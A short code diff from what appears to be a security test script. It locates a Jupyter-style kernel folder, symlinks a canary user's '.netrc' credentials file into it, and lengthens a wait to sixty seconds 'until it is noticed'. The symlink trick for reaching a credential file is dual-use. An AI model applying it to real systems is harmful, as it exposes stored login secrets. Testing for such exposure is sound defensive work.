@@ -9,4 +9,4 @@ folder = os.path.dirname(re.search(r"\S+/kernel\.json", line)[0])
 os.symlink(f"{canary['home']}/.netrc", f"{folder}/link")
 with open(f"{folder}/file", "wb") as file:
     file.write(b"0" * 1000)
-time.sleep(2)
+time.sleep(60)  # until it is noticed
